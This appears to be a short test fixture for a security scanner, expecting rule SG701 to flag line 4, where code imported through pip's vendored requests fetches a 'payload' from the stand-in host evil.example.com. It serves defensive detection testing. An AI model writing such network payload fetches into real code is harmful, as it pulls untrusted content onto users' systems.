# expect: block SG701@4
from pip._vendor import requests

requests.get("https://evil.example.com/payload")
